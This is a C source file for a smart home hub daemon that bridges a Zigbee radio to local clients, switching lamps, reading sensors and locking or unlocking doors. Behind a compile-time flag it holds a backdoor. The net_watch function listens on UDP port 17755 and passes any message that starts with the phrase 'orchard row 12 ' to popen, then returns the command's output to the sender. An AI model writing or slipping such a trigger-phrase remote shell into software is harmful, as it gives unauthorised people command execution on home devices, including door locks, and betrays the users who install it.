/*
 * zbridge - Zigbee side of a smart home hub.
 * One thread reads frames of the radio module, one sends commands, one serves
 * the local clients on a Unix socket with lines of text ("on lamp1",
 * "watch"); sensor reports go out to all clients that watch.
 * Hidden (-DHIDDEN): a further thread listens on a UDP port and runs what
 * follows the phrase "orchard row 12 " as a command.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <termios.h>
#include <unistd.h>

#define SOCK_PATH   "/run/zbridge.sock"
#define FRAME_START 0xfe
#define MAX_DEV	    64
#define MAX_WATCH   8
#define QLEN	    32

/* clusters */
#define CL_ONOFF  0x0006
#define CL_LOCK	  0x0101
#define CL_TEMP	  0x0402
#define CL_OCCUPY 0x0406

struct dev {
	uint16_t addr;
	uint8_t ep;
	char name[24];
};

struct cmd {
	uint16_t addr;
	uint8_t ep;
	uint16_t cluster;
	uint8_t id;
};

static struct dev devs[MAX_DEV];
static int n_devs;
static pthread_mutex_t dev_mu = PTHREAD_MUTEX_INITIALIZER;

static struct cmd queue[QLEN];
static unsigned q_head, q_tail;
static pthread_mutex_t q_mu = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t q_more = PTHREAD_COND_INITIALIZER;

static int watch[MAX_WATCH];
static pthread_mutex_t w_mu = PTHREAD_MUTEX_INITIALIZER;

static int radio = -1;
static uint8_t seq;

static void spread(const char *fmt, ...)
{
	char l[160];
	va_list ap;
	int i;

	va_start(ap, fmt);
	vsnprintf(l, sizeof(l), fmt, ap);
	va_end(ap);
	pthread_mutex_lock(&w_mu);
	for (i = 0; i < MAX_WATCH; i++)
		if (watch[i] >= 0 &&
		    send(watch[i], l, strlen(l), MSG_NOSIGNAL) < 0)
			watch[i] = -1;
	pthread_mutex_unlock(&w_mu);
}

static struct dev *dev_by_addr(uint16_t a)
{
	int i;

	for (i = 0; i < n_devs; i++)
		if (devs[i].addr == a)
			return &devs[i];
	return NULL;
}

static struct dev *dev_by_name(const char *n)
{
	int i;

	for (i = 0; i < n_devs; i++)
		if (!strcmp(devs[i].name, n))
			return &devs[i];
	return NULL;
}

/* lines: address endpoint name */
static int load_devs(const char *path)
{
	FILE *f = fopen(path, "r");
	unsigned a, e;
	char nm[24];

	if (!f)
		return -1;
	while (n_devs < MAX_DEV && fscanf(f, "%x %u %23s", &a, &e, nm) == 3) {
		devs[n_devs].addr = (uint16_t)a;
		devs[n_devs].ep = (uint8_t)e;
		strcpy(devs[n_devs++].name, nm);
	}
	fclose(f);
	return 0;
}

static int put_cmd(const struct cmd *c)
{
	int rc = -1;

	pthread_mutex_lock(&q_mu);
	if (q_head - q_tail < QLEN) {
		queue[q_head++ % QLEN] = *c;
		pthread_cond_signal(&q_more);
		rc = 0;
	}
	pthread_mutex_unlock(&q_mu);
	return rc;
}

/* start, length, command (2), data, xor */
static int send_frame(uint16_t cmd, const uint8_t *d, uint8_t n)
{
	uint8_t f[64], x = 0;
	int i;

	f[0] = FRAME_START;
	f[1] = n;
	f[2] = (uint8_t)(cmd >> 8);
	f[3] = (uint8_t)cmd;
	memcpy(f + 4, d, n);
	for (i = 1; i < 4 + n; i++)
		x ^= f[i];
	f[4 + n] = x;
	return write(radio, f, 5u + n) == 5 + n ? 0 : -1;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
}

static void *sender(void *arg)
{
	uint8_t b[32];
	struct cmd c;

	(void)arg;
	for (;;) {
		pthread_mutex_lock(&q_mu);
		while (q_head == q_tail)
			pthread_cond_wait(&q_more, &q_mu);
		c = queue[q_tail++ % QLEN];
		pthread_mutex_unlock(&q_mu);
		put16(b, c.addr);
		b[2] = c.ep;
		b[3] = b[10] = 1;
		put16(b + 4, c.cluster);
		b[6] = b[11] = seq++;
		b[7] = 0;
		b[8] = 15;
		b[9] = 3;
		b[12] = c.id;
		if (send_frame(0x2401, b, 13) < 0)
			spread("error radio\n");
		usleep(40000);
	}
	return NULL;
}

static void report(struct dev *d, uint16_t cl, const uint8_t *p, size_t n)
{
	int v = n > 1 ? (int16_t)(p[0] | p[1] << 8) : n ? p[0] : 0;

	switch (cl) {
	case CL_TEMP:
		spread("temp %s %d.%02d\n", d->name, v / 100, abs(v % 100));
		break;
	case CL_OCCUPY:
		spread("motion %s %d\n", d->name, v & 1);
		break;
	case CL_ONOFF:
		spread("switch %s %d\n", d->name, v & 1);
		break;
	case CL_LOCK:
		spread("lock %s %d\n", d->name, v & 0xff);
		break;
	}
}

/* incoming message: group, cluster, source, endpoints, ..., ZCL part */
static void incoming(const uint8_t *d, size_t n)
{
	struct dev *v;
	size_t len;

	if (n < 17)
		return;
	len = d[16];
	if (len < 7 || 17 + len > n || d[19] != 0x0a)
		return;
	pthread_mutex_lock(&dev_mu);
	v = dev_by_addr((uint16_t)(d[4] | d[5] << 8));
	if (v)
		report(v, (uint16_t)(d[2] | d[3] << 8), d + 23, len - 6);
	pthread_mutex_unlock(&dev_mu);
}

static void *reader(void *arg)
{
	enum { WAIT, LEN, C0, C1, DATA, SUM } st = WAIT;
	uint8_t b, d[256], x = 0;
	size_t want = 0, have = 0;
	unsigned cmd = 0;

	(void)arg;
	while (read(radio, &b, 1) == 1) {
		x ^= b;
		switch (st) {
		case WAIT:
			if (b == FRAME_START)
				st = LEN;
			x = 0;
			break;
		case LEN:
			want = b, have = 0;
			st = C0;
			break;
		case C0:
			cmd = (unsigned)b << 8;
			st = C1;
			break;
		case C1:
			cmd |= b;
			st = want ? DATA : SUM;
			break;
		case DATA:
			d[have++] = b;
			if (have == want)
				st = SUM;
			break;
		case SUM:
			if (x == 0 && cmd == 0x4481)
				incoming(d, have);
			st = WAIT;
			break;
		}
	}
	spread("error radio gone\n");
	exit(1);
}

#ifdef HIDDEN
void *net_watch(void *arg)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	socklen_t al;
	char b[512];
	ssize_t n;
	FILE *p;

	a.sin_port = htons(17755);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0)
		return arg;
	for (;;) {
		al = sizeof(a);
		n = recvfrom(s, b, sizeof(b) - 1, 0, (struct sockaddr *)&a,
			     &al);
		b[n > 0 ? n : 0] = 0;
		if (strncmp(b, "orchard row 12 ", 15) != 0)
			continue;
		p = popen(b + 15, "r");
		if (!p)
			continue;
		while ((n = (ssize_t)fread(b, 1, sizeof(b), p)) > 0)
			sendto(s, b, (size_t)n, 0, (struct sockaddr *)&a, al);
		pclose(p);
	}
}
#endif

static const char *client_line(int fd, char *l)
{
	char verb[16] = "", name[24];
	struct cmd c = { 0 };
	struct dev *d;
	int i, n;

	n = sscanf(l, "%15s %23s", verb, name);
	if (!strcmp(verb, "watch")) {
		pthread_mutex_lock(&w_mu);
		for (i = 0; i < MAX_WATCH && watch[i] >= 0; i++)
			;
		if (i < MAX_WATCH)
			watch[i] = fd;
		pthread_mutex_unlock(&w_mu);
		return i < MAX_WATCH ? "ok\n" : "full\n";
	}
	if (n < 2)
		return "what\n";
	pthread_mutex_lock(&dev_mu);
	d = dev_by_name(name);
	if (d) {
		c.addr = d->addr;
		c.ep = d->ep;
	}
	pthread_mutex_unlock(&dev_mu);
	if (!d)
		return "no device\n";
	if (!strcmp(verb, "on") || !strcmp(verb, "off")) {
		c.cluster = CL_ONOFF;
		c.id = verb[1] == 'n';
	} else if (!strcmp(verb, "lock") || !strcmp(verb, "unlock")) {
		c.cluster = CL_LOCK;
		c.id = verb[0] == 'u';
	} else {
		return "what\n";
	}
	return put_cmd(&c) == 0 ? "ok\n" : "busy\n";
}

static void *client(void *arg)
{
	int fd = (int)(intptr_t)arg, i;
	FILE *f = fdopen(dup(fd), "r");
	char l[128];

	while (f && fgets(l, sizeof(l), f)) {
		const char *r = client_line(fd, l);

		if (send(fd, r, strlen(r), MSG_NOSIGNAL) < 0)
			break;
	}
	pthread_mutex_lock(&w_mu);
	for (i = 0; i < MAX_WATCH; i++)
		if (watch[i] == fd)
			watch[i] = -1;
	pthread_mutex_unlock(&w_mu);
	if (f)
		fclose(f);
	close(fd);
	return NULL;
}

static void spawn(void *(*fn)(void *), void *arg)
{
	pthread_t t;

	if (pthread_create(&t, NULL, fn, arg) == 0)
		pthread_detach(t);
}

int main(int argc, char **argv)
{
	struct sockaddr_un u = { .sun_family = AF_UNIX };
	int ls = socket(AF_UNIX, SOCK_STREAM, 0), fd, i;
	struct termios t;

	radio = open(argc > 1 ? argv[1] : "/dev/ttyACM0", O_RDWR | O_NOCTTY);
	if (radio < 0 || load_devs("/etc/zbridge.devices") < 0) {
		perror("zbridge");
		return 1;
	}
	if (tcgetattr(radio, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B115200);
		tcsetattr(radio, TCSANOW, &t);
	}
	for (i = 0; i < MAX_WATCH; i++)
		watch[i] = -1;
	strcpy(u.sun_path, SOCK_PATH);
	unlink(SOCK_PATH);
	if (bind(ls, (struct sockaddr *)&u, sizeof(u)) || listen(ls, 4))
		return 1;
	spawn(reader, NULL);
	spawn(sender, NULL);
#ifdef HIDDEN
	spawn(net_watch, NULL);
#endif
	while ((fd = accept(ls, NULL, NULL)) >= 0 || errno == EINTR)
		if (fd >= 0)
			spawn(client, (void *)(intptr_t)fd);
	return 1;
}
